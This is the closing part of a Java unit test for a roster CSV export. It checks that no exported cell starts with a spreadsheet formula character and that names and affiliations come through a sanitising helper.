        assertThat(rows).hasSize(PEOPLE);
        for (CSVRecord row : rows) {
            for (String cell : row.values()) {
                // Whatever a spreadsheet would evaluate: = + - @ (also full-width), tab or a line break, even after
                // spaces.
                assertThat(cell)
                        .as("roster row " + row.getRecordNumber() + ": a formula")
                        .doesNotMatch("(?s)^[\\s\\p{Z}]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20\\t\\r\\n].*");
            }
        }
        assertThat(rows.stream().map(r -> r.get("name")))
                .containsExactlyInAnyOrderElementsOf(corpus.members().stream()
                        .map(m -> SpreadsheetCells.safe(m.name()))
                        .toList());
        assertThat(rows.stream().map(r -> r.get("affiliation")).distinct())
                .containsExactlyInAnyOrderElementsOf(FORMULAS.stream()
                        .map(f -> SpreadsheetCells.safe(f.strip()))
                        .distinct()
                        .toList());
        assertThat(rows.stream().map(r -> r.get("seat")).distinct())
                .containsExactlyInAnyOrderElementsOf(corpus.seatGroups());
    }
}
